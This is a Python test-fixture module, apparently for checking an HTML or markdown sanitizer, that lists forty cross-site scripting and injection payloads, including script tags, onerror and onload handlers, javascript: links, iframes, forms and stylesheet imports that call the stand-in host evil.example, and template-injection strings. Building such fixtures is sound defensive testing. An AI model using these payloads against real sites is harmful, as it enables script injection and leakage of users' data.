"""Forty pieces of text that would like to be more than text: scripts, requests, forms, frames."""

from __future__ import annotations

EVIL = "http://evil.example"

# Each would set ``window.pwned``, ask evil.example for something, or put up a form or a frame.
HOSTILE = (
    "<script>window.pwned=1</script>",
    "<script src=http://evil.example/x.js></script>",
    "</script><script>window.pwned=1</script>",
    "</title></style></textarea></mark></div><script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    '<img src="http://evil.example/x.png">',
    "<img srcset='http://evil.example/x.png 1x'>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror='window.pwned=1'",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><image href=http://evil.example/x.png /></svg>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=http://evil.example/x.mp3 autoplay>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=http://evil.example/></object>",
    "<embed src=http://evil.example/>",
    '<form action="http://evil.example/"><input name=q><button>Envía</button></form>',
    "<button formaction=javascript:window.pwned=1>x</button>",
    '<a href="javascript:window.pwned=1">x</a>',
    "<a href=http://evil.example/ ping=http://evil.example/>x</a>",
    "<base href=http://evil.example/>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<div style=\"background:url('http://evil.example/x.png')\">x</div>",
    "<template><script>window.pwned=1</script></template>",
    "![x](http://evil.example/x.png)",
    "[x](javascript:window.pwned=1)",
    "<http://evil.example/> http://evil.example/x www.evil.example",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\unicode{x3c}\\)",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{7*7}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62; \u202e<x",
    "# Título\\n- lista\\n```html\\n<script>window.pwned=1</script>\\n```",
)
